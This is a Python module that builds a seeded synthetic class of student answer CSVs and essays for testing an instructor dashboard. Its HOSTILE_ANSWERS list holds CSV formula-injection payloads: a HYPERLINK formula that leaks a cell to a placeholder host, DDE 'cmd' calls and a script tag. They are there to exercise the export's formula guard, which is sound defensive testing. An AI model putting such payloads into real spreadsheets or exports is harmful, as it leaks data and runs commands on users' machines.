"""A synthetic class: seeded hand-ins in the current export format, for the dashboard's demo,
its benchmark and the tests (``scripts/make_synthetic_class.py`` is the command line).

Every answer is checked by the real :func:`course_lib.questions.check_answer`, every essay is
exported by the real :func:`course_lib.capstone_export.to_html` / :func:`~course_lib.capstone_export.to_markdown`,
and every quotation is taken word for word from the minutes (a few students misquote on purpose,
so the quotation check has something to find). The class also holds what real classes hand in:
two students with the same name, a name typed in decomposed Hangul (NFD), students who typed no
name, and answers that look like spreadsheet formulas.

The CSV is written in the **current export format** (:data:`EXPORT_COLUMNS`: ``learner_id``,
``learner_name`` and the per-question ``revealed``, ``attempts``, ``hints_used`` and
``first_try_correct``) with the reversible formula guard of :mod:`course_lib.instructor.csvsafe`,
independently of the learner-side store, so that the instructor's tools and their tests do not
wait for it.
"""

from __future__ import annotations

import random
import re
import unicodedata
from collections.abc import Mapping, Sequence
from dataclasses import dataclass, field
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import pandas as pd

from course_lib.capstone import (
    QUESTION,
    RUBRIC,
    CapstoneState,
    Evidence,
    sentences,
)
from course_lib.capstone_export import to_html, to_markdown
from course_lib.fileio import write_atomic
from course_lib.instructor.csvsafe import rows_to_csv
from course_lib.instructor.exports import EXPORT_COLUMNS
from course_lib.questions import QuestionBank, check_answer, describe_response

__all__ = ["EXPORT_COLUMNS", "ClassManifest", "export_text", "make_class", "student_records"]

_FIRST = [
    "Ann", "Bo", "Carol", "Dave", "Eun-ji", "Farid", "Grace", "Hyun-woo", "Ines", "Jae",
    "Kofi", "Lena", "Min-jun", "Nadia", "Olu", "Pavel", "Qing", "Rosa", "Seo-yeon", "Tariq",
    "Uma", "Viktor", "Wei", "Ximena", "Yuki", "Zanele",
]  # fmt: skip
_LAST = [
    "Kim", "Park", "Lee", "Choi", "Chen", "Wang", "Smith", "Garcia", "Okafor", "Novak",
    "Ivanova", "Haddad", "Tanaka", "Silva", "Nguyen", "Müller", "Dubois", "Rossi",
]  # fmt: skip
#: Short answers that a spreadsheet would run as formulas (they must survive as text).
HOSTILE_ANSWERS = [
    '=HYPERLINK("http://example.invalid/?leak="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3 is my guess, but the minutes say more",
    "'=1+1 (an apostrophe first, on purpose)",
    "박금철 [Pak Kum Chol] 김일성 <script>alert(1)</script>",
]


@dataclass
class ClassManifest:
    """What :func:`make_class` wrote.

    Attributes
    ----------
    folder : Path
    students : int
    rows : int
        Data rows written in all answer exports.
    files : list of str
        Every file written, relative to ``folder``.
    capstones : int
    learners : list of dict
        ``learner_id``, ``name``, ``folder``, ``rows``, ``capstone`` per student.
    """

    folder: Path
    students: int = 0
    rows: int = 0
    files: list[str] = field(default_factory=list)
    capstones: int = 0
    learners: list[dict[str, Any]] = field(default_factory=list)


def _slug(name: str) -> str:
    text = unicodedata.normalize("NFC", name)
    return re.sub(r"[\W_]+", "_", text).strip("_").lower()


def export_text(
    records: Sequence[Mapping[str, Any]],
    learner_id: str,
    learner_name: str,
    bank: QuestionBank | None = None,
) -> str:
    """A learner's export in the current format (pure).

    Parameters
    ----------
    records : sequence of dict
        ``qid``, ``lesson``, ``skill``, ``type``, ``response`` (canonical), ``correct``,
        ``score``, ``saved_at`` and optionally ``revealed``, ``attempts``, ``hints_used``,
        ``first_try_correct``.
    learner_id : str
    learner_name : str
    bank : QuestionBank, optional
        Spells out ``answer_text``.

    Returns
    -------
    str
        CSV with the header :data:`EXPORT_COLUMNS`, every cell guarded.
    """
    import json

    rows = []
    for r in records:
        response = r.get("response")
        raw = response if isinstance(response, str) else json.dumps(response, ensure_ascii=False)
        question = bank.get(r["qid"]) if bank is not None and r["qid"] in bank else None
        rows.append(
            [
                learner_id,
                learner_name,
                learner_name,
                r["qid"],
                r.get("lesson", ""),
                r.get("skill", ""),
                r.get("type", ""),
                raw,
                describe_response(question, response) if question else raw,
                r.get("correct"),
                r.get("score"),
                r.get("saved_at", ""),
                r.get("revealed"),
                r.get("attempts"),
                r.get("hints_used"),
                r.get("first_try_correct"),
            ]
        )
    return rows_to_csv(EXPORT_COLUMNS, rows)


def _choice(q: Mapping[str, Any], rng: random.Random, skill: float) -> Any:
    options = q["options"]
    right = [o["id"] for o in options if o.get("correct")]
    wrong = [o["id"] for o in options if not o.get("correct")]
    if q["type"] == "single_choice":
        if rng.random() < skill or not wrong:
            return right[0]
        # The first distractor misleads most: that is what the dashboard should find.
        return wrong[0] if rng.random() < 0.6 else rng.choice(wrong)
    if q["type"] in ("multiple_choice", "evidence"):
        picked = [i for i in right if rng.random() < skill + 0.1]
        picked += [i for i in wrong if rng.random() < (1 - skill) / 2]
        return picked or [rng.choice(right)]
    order = list(q["correct_order"])
    if rng.random() > skill:
        i, j = rng.sample(range(len(order)), 2)
        order[i], order[j] = order[j], order[i]
    return order


def student_records(
    bank: QuestionBank,
    rng: random.Random,
    skill: float,
    lessons: Sequence[int],
    start: datetime,
    hostile: str | None = None,
) -> list[dict[str, Any]]:
    """One synthetic learner's latest answers (pure, given the random generator).

    Parameters
    ----------
    bank : QuestionBank
    rng : random.Random
    skill : float
        0-1: the chance of a right first try.
    lessons : sequence of int
        Lessons the learner worked through.
    start : datetime
        The first lesson's time (aware).
    hostile : str, optional
        Used as this learner's first short answer.

    Returns
    -------
    list of dict
    """
    records = []
    for q in bank:
        if q["lesson"] not in lessons or rng.random() > 0.93:
            continue
        when = start + timedelta(days=7 * (q["lesson"] - 1), minutes=rng.randint(0, 240))
        base = {
            "qid": q["id"],
            "lesson": q["lesson"],
            "skill": q["skill"],
            "type": q["type"],
            "saved_at": when.isoformat(timespec="seconds").replace("+00:00", "Z"),
            "hints_used": 0,
        }
        if q["type"] == "short_answer":
            text = hostile or rng.choice(sentences(q["model_answer"]) or ["I am not sure."])
            hostile = None
            result = check_answer(q, text)
            records.append(
                {
                    **base,
                    "response": result["response"],
                    "correct": None,
                    "score": None,
                    "revealed": rng.random() < 0.2,
                    "attempts": 1,
                    "first_try_correct": None,
                }
            )
            continue
        first = check_answer(q, _choice(q, rng, skill))
        attempts, revealed, final = 1, False, first
        if not first["correct"]:
            revealed = rng.random() < 0.35
            attempts += rng.randint(0, 2)
            if attempts > 1:
                final = check_answer(q, _choice(q, rng, min(1.0, skill + 0.3)))
        records.append(
            {
                **base,
                "response": final["response"],
                "correct": final["correct"],
                "score": final["score"],
                "revealed": revealed,
                "attempts": attempts,
                "hints_used": rng.randint(0, 2) if attempts > 1 else 0,
                "first_try_correct": bool(first["correct"]),
            }
        )
    return records


def _essay(turns: pd.DataFrame, rng: random.Random, misquote: bool) -> CapstoneState:
    chosen = rng.sample([int(t) for t in turns["turn"]], 5)
    by_turn = dict(zip(turns["turn"].astype(int), turns["text"].astype(str), strict=True))
    speakers = dict(zip(turns["turn"].astype(int), turns["speaker"].astype(str), strict=True))
    evidence = []
    paragraphs = [
        "China courted North Korea with shared memories of the war and with advice on how to "
        "fight Moscow in print, while Kim kept his own room to move."
    ]
    for t in chosen:
        quote = rng.choice(sentences(by_turn[t]))
        evidence.append(Evidence(t, speakers[t], quote))
        paragraphs.append(
            f"In turn {t} {speakers[t]} says “{quote}” (Minutes, turn {t}). This shows how the "
            "two leaders weighed their words while the split with Moscow deepened."
        )
    if misquote:
        t = chosen[0]
        paragraphs.append(
            f"He also says “we will break with Moscow tomorrow” (Minutes, turn {t}), which the "
            "minutes do not support."
        )
    return CapstoneState(
        essay="\n\n".join(paragraphs),
        evidence=evidence,
        checks={k: rng.random() < 0.7 for k, _ in RUBRIC},
        question=QUESTION,
    )


def make_class(
    folder: str | Path,
    n: int = 30,
    seed: int = 1963,
    bank: QuestionBank | None = None,
    turns: pd.DataFrame | None = None,
    start: datetime | None = None,
) -> ClassManifest:
    """Write a synthetic class's hand-ins: one folder per student, ``answers.csv`` and an essay.

    Parameters
    ----------
    folder : str or Path
        Created if missing; existing files of the same names are replaced.
    n : int
        Students.
    seed : int
        The same seed writes the same class.
    bank : QuestionBank, optional
        Default: the course's bank.
    turns : DataFrame, optional
        Default: the minutes' turns.
    start : datetime, optional
        When lesson 1 was taught (aware; default 1 September 2026, 09:00 UTC).

    Returns
    -------
    ClassManifest
    """
    if bank is None:
        from course_lib.questions import load_bank

        bank = load_bank()
    if turns is None:
        from course_lib.data import load_turns

        turns = load_turns()
    start = start or datetime(2026, 9, 1, 9, 0, tzinfo=UTC)
    root = Path(folder).expanduser()
    rng = random.Random(seed)
    manifest = ClassManifest(folder=root)
    all_lessons = sorted({q["lesson"] for q in bank})
    for i in range(n):
        learner_id = f"{rng.getrandbits(128):032x}"
        name = f"{_FIRST[i % len(_FIRST)]} {_LAST[(i // len(_FIRST)) % len(_LAST)]}"
        if i == 1:
            name = "Kim Min-jun"  # two students typed the same name (see i == 2)
        if i == 2:
            name = "Kim Min-jun"
        if i == 3:
            name = unicodedata.normalize("NFD", "박금철")  # decomposed Hangul
        if i == 4:
            name = unicodedata.normalize("NFC", "박금철")  # the same name, composed
        if i % 37 == 5:
            name = ""  # typed no name: the folder tells them apart
        sub = f"{i + 1:03d}_{_slug(name) or 'student'}"
        skill = rng.uniform(0.35, 0.95)
        reached = rng.choices(range(1, len(all_lessons) + 1), weights=[1, 1, 2, 3, 8][: len(all_lessons)])[0]  # fmt: skip
        lessons = all_lessons[:reached]
        hostile = HOSTILE_ANSWERS[i % len(HOSTILE_ANSWERS)] if i % 5 == 0 else None
        records = student_records(bank, rng, skill, lessons, start, hostile)
        text = export_text(records, learner_id, name, bank)
        write_atomic(root / sub / "answers.csv", text)
        manifest.files.append(f"{sub}/answers.csv")
        manifest.rows += len(records)
        has_essay = reached == len(all_lessons) and rng.random() < 0.85
        if has_essay:
            state = _essay(turns, rng, misquote=rng.random() < 0.2)
            state.name = name
            when = start + timedelta(days=7 * len(all_lessons), hours=rng.randint(0, 48))
            fmt = "html" if i % 3 else "md"
            body = to_html(state, when) if fmt == "html" else to_markdown(state, when)
            write_atomic(root / sub / f"capstone.{fmt}", body)
            manifest.files.append(f"{sub}/capstone.{fmt}")
            manifest.capstones += 1
        manifest.learners.append(
            {
                "learner_id": learner_id,
                "name": name,
                "folder": sub,
                "rows": len(records),
                "capstone": has_essay,
            }
        )
    manifest.students = n
    return manifest
